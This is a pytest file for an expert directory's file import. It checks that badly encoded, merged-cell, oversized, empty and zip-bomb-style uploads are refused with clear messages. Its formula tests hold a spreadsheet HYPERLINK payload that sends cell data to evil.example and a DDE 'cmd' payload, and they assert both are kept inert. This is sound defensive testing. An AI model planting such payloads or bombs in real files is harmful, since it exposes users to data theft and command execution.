"""Bad input, case by case, for the browser import (and the command line
where it reads the same files): each malformed file gets a clear message in the
curator's language and nothing is kept.

Covered elsewhere, and named here so that the list is complete:
- a zip bomb disguised as XLSX (its directory) and an XML entity bomb:
  test_import_browser.py::test_an_xlsx_bomb_is_refused_from_its_directory,
  ::test_an_xml_entity_bomb_in_a_workbook_is_refused (a high-ratio member below the size
  limit is added here);
- exports neutralise formula cells: test_exports.py::test_exported_formula_cells_are_neutralised
  (and test_jobs.py for background exports);
- nothing is written until the curator commits:
  test_import_browser.py::test_a_csv_is_previewed_row_by_row_and_nothing_is_written_before_the_commit;
- a commit completes or leaves the database as it was:
  test_import_browser.py::test_a_failure_in_the_middle_of_a_commit_leaves_the_database_as_it_was.
"""
import io
import time
import unicodedata
import zipfile

import openpyxl
import pytest
from conftest import csrf_token
from test_import_browser import commit, csv_bytes, upload, uploaded_batch, xlsx_bytes
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from expertnet.curation import importer
from expertnet.curation.models import ImportBatch, ImportRow
from expertnet.directory.models import Expert

TONE_MARKS = "\u0300\u0301\u0303\u0309\u0323"


@pytest.fixture
def curator(make_user, login):
    user = make_user("curator")
    login(user)
    return user


def to_cp1258(text):
    """Vietnamese as Windows-1258 writes it: letters with circumflex, breve or horn are
    single bytes, tone marks are combining characters that follow them."""
    out = []
    for char in unicodedata.normalize("NFD", text):
        if unicodedata.combining(char) and char not in TONE_MARKS:
            # Attach to the base letter, before any tone mark already written.
            base = len(out) - 1
            while unicodedata.combining(out[base]):
                base -= 1
            out[base] = unicodedata.normalize("NFC", out[base] + char)
        else:
            out.append(char)
    return "".join(out).encode("cp1258")


def upload_in(client, data, name, language):
    """The upload, in ``language``. The body is encoded here, in memory: the test
    client would spool a large one to a temporary file that it never closes."""
    client.set_cookie("lang", language)
    boundary, body = encode_multipart({
        "csrf_token": csrf_token(client, "/curate/imports"),
        "file": FileStorage(io.BytesIO(data), filename=name)})
    return client.post("/curate/imports", data=body,
                       content_type=f"multipart/form-data; boundary={boundary}")


def refused(response):
    assert response.status_code == 200, response.status_code
    assert ImportBatch.select().count() == 0 and ImportRow.select().count() == 0
    return response.get_data(as_text=True)


def workbook_bytes(build):
    workbook = openpyxl.Workbook()
    build(workbook)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


# -- encodings ------------------------------------------------------------------------------
@pytest.mark.parametrize("data", [
    to_cp1258("kind,full_name,organization\ndomestic,Nguyễn Văn Đức,Viện Hải dương học\n"),
    "kind,full_name,city\nforeign,José Müller,Zürich\n".encode("cp1252"),
    "kind,full_name\ndomestic,Phạm Thị Lan\n".encode("utf-16"),
], ids=["windows-1258", "windows-1252", "utf-16"])
def test_a_csv_not_in_utf8_is_refused_with_a_clear_message(app, client, curator, data):
    english = refused(upload_in(client, data, "survey.csv", "en"))
    assert "The file cannot be imported" in english
    assert "save it as “CSV UTF-8”" in english or "neither CSV (UTF-8) nor XLSX" in english
    vietnamese = refused(upload_in(client, data, "survey.csv", "vi"))
    assert "Không nhập được tệp" in vietnamese and "UTF-8" in vietnamese


def test_the_command_line_refuses_a_windows_1258_file_with_exit_code_2(app, runner, tmp_path):
    path = tmp_path / "survey.csv"
    path.write_bytes(to_cp1258("kind,full_name\ndomestic,Nguyễn Văn Đức\n"))
    result = runner.invoke(args=["import-profiles", str(path), "--lang", "vi"])
    assert result.exit_code == 2 and "UTF-8" in result.output
    assert Expert.select().count() == 0


def test_the_same_file_in_utf8_imports_with_its_diacritics(app, client, curator):
    data = "kind,full_name,organization\ndomestic,Nguyễn Văn Đức,Viện Hải dương học\n"
    batch = uploaded_batch(client, data.encode("utf-8"))
    assert batch.status == "ready"
    assert ImportRow.get().cells["full_name"] == "Nguyễn Văn Đức"


# -- merged cells ---------------------------------------------------------------------------------
def _merged_rows(workbook):
    sheet = workbook.active
    sheet.append(["kind", "full_name", "organization"])
    sheet.append(["domestic", "Trần An", "Viện Cơ học"])
    sheet.append([None, "Lê Bình", None])
    sheet.merge_cells("A2:A3")
    sheet.merge_cells("C2:C3")


def _merged_title(workbook):
    sheet = workbook.active
    sheet.append(["DANH SÁCH TRÍ THỨC NGƯỜI HẢI PHÒNG Ở NƯỚC NGOÀI", None])
    sheet.append(["kind", "full_name"])
    sheet.append(["diaspora", "Phạm Thu"])
    sheet.merge_cells("A1:B1")


@pytest.mark.parametrize("build, cells", [(_merged_rows, "A2:A3"), (_merged_title, "A1:B1")])
def test_merged_cells_are_refused_with_their_addresses(app, client, curator, build, cells):
    data = workbook_bytes(build)
    english = refused(upload_in(client, data, "survey.xlsx", "en"))
    assert "merged cells" in english and cells in english and "Unmerge them" in english
    vietnamese = refused(upload_in(client, data, "survey.xlsx", "vi"))
    assert "ô gộp" in vietnamese and cells in vietnamese


def test_the_command_line_refuses_merged_cells_too(app, runner, tmp_path):
    path = tmp_path / "merged.xlsx"
    path.write_bytes(workbook_bytes(_merged_rows))
    result = runner.invoke(args=["import-profiles", str(path), "--lang", "en"])
    assert result.exit_code == 2 and "merged cells (" in result.output
    assert Expert.select().count() == 0


# -- formulas -------------------------------------------------------------------------------------
def test_formula_cells_of_a_workbook_are_data_never_evaluated(app, client, curator):
    def build(workbook):
        sheet = workbook.active
        sheet.append(["kind", "full_name", "birth_year", "organization"])
        sheet.append(["domestic", "Trần An", "=1970+5", "Viện A"])
        sheet.append(["domestic", "Lê Bình", "", '=HYPERLINK("http://evil.example","Bấm")'])
    batch = uploaded_batch(client, workbook_bytes(build), "formulas.xlsx")
    first, second = (ImportRow.get((ImportRow.batch == batch.id) & (ImportRow.number == n))
                     for n in (2, 3))
    # Never computed: "=1970+5" is not a year (the reason is shown), the link is text.
    assert first.outcome == "invalid" and first.cells["birth_year"] == "=1970+5"
    assert second.outcome == "new"
    assert second.cells["organization"] == '=HYPERLINK("http://evil.example","Bấm")'
    page = client.get(f"/curate/imports/{batch.id}", headers={"Accept-Language": "en"}).text
    assert "is not a year" in page


def test_a_formula_injection_cell_in_a_csv_is_kept_verbatim_and_shown_inert(app, client, curator):
    cell = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
    rows = [{"kind": "domestic", "full_name": "Công Thức", "organization": cell,
             "visibility": "curators"},
            {"kind": "domestic", "full_name": "Cộng Trừ", "position": "+cmd|' /C calc'!A0",
             "visibility": "curators"}]
    batch = uploaded_batch(client, csv_bytes(rows))
    staged = ImportRow.get((ImportRow.batch == batch.id) & (ImportRow.number == 2))
    assert staged.outcome == "new" and staged.cells["organization"] == cell
    row_page = client.get(f"/curate/imports/{batch.id}/rows/{staged.id}").get_data(as_text=True)
    commit(client, batch)
    expert = Expert.get(Expert.full_name == "Công Thức")
    assert expert.organization == cell
    assert Expert.get(Expert.full_name == "Cộng Trừ").position == "+cmd|' /C calc'!A0"
    page = client.get(f"/experts/{expert.id}").get_data(as_text=True)
    for html in (row_page, page):
        assert 'href="http://evil.example' not in html
        assert "=HYPERLINK(&#34;http://evil.example/?x=&#34;&amp;A1" in html \
            or "=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1" in html


# -- 100,000 rows ---------------------------------------------------------------------------------
def test_a_file_over_100000_rows_is_refused_before_anything_is_staged(app, client, curator):
    assert app.config["IMPORT_MAX_ROWS"] == 100_000
    data = b"kind,full_name\n" + b"domestic,A\n" * 100_001
    started = time.perf_counter()
    english = refused(upload_in(client, data, "huge.csv", "en"))
    assert time.perf_counter() - started < 5
    assert "more than 100000 rows" in english and "split it into several files" in english
    vietnamese = refused(upload_in(client, data, "huge.csv", "vi"))
    assert "100000" in vietnamese and "nhiều hơn" in vietnamese


def test_the_row_limit_counts_rows_not_lines(app, client, curator):
    app.config["IMPORT_MAX_ROWS"] = 5
    # Five rows whose biographies span several lines: more lines than the limit, but
    # five rows, which is allowed; a sixth row is one too many.
    rows = [{"kind": "domestic", "full_name": f"Người {n}", "bio_vi": "Dòng 1\nDòng 2\nDòng 3"}
            for n in range(5)]
    assert uploaded_batch(client, csv_bytes(rows)).status == "ready"
    rows.append({"kind": "domestic", "full_name": "Người 6"})
    response = upload(client, csv_bytes(rows))
    assert "more than 5 rows" in response.get_data(as_text=True)


def test_a_workbook_over_the_limit_is_refused_too(app, client, curator):
    app.config["IMPORT_MAX_ROWS"] = 3
    data = xlsx_bytes([{"kind": "domestic", "full_name": f"Người {n}"} for n in range(4)])
    page = upload(client, data, "many.xlsx").get_data(as_text=True)
    assert "more than 3 rows" in page
    assert ImportBatch.select().count() == 0


# -- empty files and sheets -----------------------------------------------------------------------
@pytest.mark.parametrize("data, name", [
    (b"", "empty.csv"),
    (b"\xef\xbb\xbf", "bom-only.csv"),
    (workbook_bytes(lambda workbook: None), "empty.xlsx"),
], ids=["zero bytes", "a BOM only", "an empty workbook"])
def test_an_empty_file_is_refused(app, client, curator, data, name):
    assert "the file is empty" in refused(upload_in(client, data, name, "en"))
    assert "tệp không có dữ liệu" in refused(upload_in(client, data, name, "vi"))


def test_an_empty_first_sheet_names_the_sheet_that_holds_the_rows(app, client, curator):
    def build(workbook):
        sheet = workbook.create_sheet("Danh sách")
        sheet.append(["kind", "full_name"])
        sheet.append(["domestic", "Trần An"])
    page = refused(upload_in(client, workbook_bytes(build), "sheets.xlsx", "en"))
    assert "the first sheet is empty" in page and "“Danh sách”" in page
    page = refused(upload_in(client, workbook_bytes(build), "sheets.xlsx", "vi"))
    assert "trang tính đầu tiên" in page and "“Danh sách”" in page


@pytest.mark.parametrize("data, name", [
    (csv_bytes([]), "header-only.csv"),
    (b"kind,full_name\n,\n , \n", "blank-rows.csv"),
    (xlsx_bytes([]), "header-only.xlsx"),
])
def test_a_header_without_rows_says_so(app, client, curator, data, name):
    response = upload(client, data, name)
    batch = ImportBatch.get()
    assert batch.status == "failed" and "no rows under its header row" in batch.error
    assert ImportRow.select().count() == 0
    page = client.get(f"/curate/imports/{batch.id}", headers={"Accept-Language": "en"})
    assert response.status_code == 302 and "no rows under its header row" in page.text


# -- a compressed bomb below the size limit -------------------------------------------------------
def test_a_high_ratio_member_is_refused_without_unpacking_it(app, client, curator):
    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes([{"kind": "domestic", "full_name": "An"}])))
    members = {info.filename: source.read(info.filename) for info in source.infolist()}
    # 50 MB of one byte: well under the 200 MB limit, but compressed a thousandfold.
    members["xl/worksheets/sheet1.xml"] = b" " * (50 * 1024 * 1024)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    bomb = buffer.getvalue()
    assert len(bomb) < 200_000
    del members
    started = time.perf_counter()
    page = refused(upload_in(client, bomb, "report.xlsx", "en"))
    assert time.perf_counter() - started < 2
    # The limit that was passed is the packing, not the 200 MB (50 MB is under it).
    assert "a part of the workbook (xl/worksheets/sheet1.xml) unpacks to more than 1000 times its " \
           "packed size" in page and "200 MB" not in page
    page = refused(upload_in(client, bomb, "report.xlsx", "vi"))
    assert "khi giải nén lớn gấp hơn 1000 lần kích thước nén" in page


def test_a_workbook_is_judged_by_what_it_really_unpacks_to_not_what_it_declares(app, client, curator):
    """A crafted workbook declares its sheet a few bytes long (zipfile believes it) and
    holds 3 MB of real-looking cells: refused for the size limit, which the message names."""
    from test_archives import declaring, report_text
    from test_import_browser import _zip

    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes([{"kind": "domestic", "full_name": "An"}])))
    members = {info.filename: source.read(info.filename) for info in source.infolist()}
    members["xl/worksheets/sheet1.xml"] = report_text(3 * 1024 * 1024)
    lying = declaring(_zip(members))
    with zipfile.ZipFile(io.BytesIO(lying)) as archive:
        assert sum(info.file_size for info in archive.infolist()) < 2000
    app.config["IMPORT_MAX_UNPACKED_BYTES"] = 2 * 1024 * 1024
    page = refused(upload_in(client, lying, "khảo sát.xlsx", "en"))
    assert "the workbook unpacks to more than 2 MB, the most accepted" in page
    page = refused(upload_in(client, lying, "khảo sát.xlsx", "vi"))
    assert "bảng tính khi giải nén vượt quá 2 MB, mức tối đa được chấp nhận" in page
    app.config["IMPORT_MAX_UNPACKED_BYTES"] = 1536 * 1024
    assert "more than 1.5 MB" in refused(upload_in(client, lying, "khảo sát.xlsx", "en"))


def test_importer_reads_merged_ranges_across_pieces(tmp_path):
    path = tmp_path / "merged.xlsx"
    path.write_bytes(workbook_bytes(_merged_rows))
    with zipfile.ZipFile(path) as archive:
        member = next(name for name in archive.namelist() if name.startswith("xl/worksheets/"))
    # A piece of 7 bytes cuts every element: each range is still found once.
    assert sorted(importer.merged_ranges(path, member, chunk=7)) == ["A2:A3", "C2:C3"]
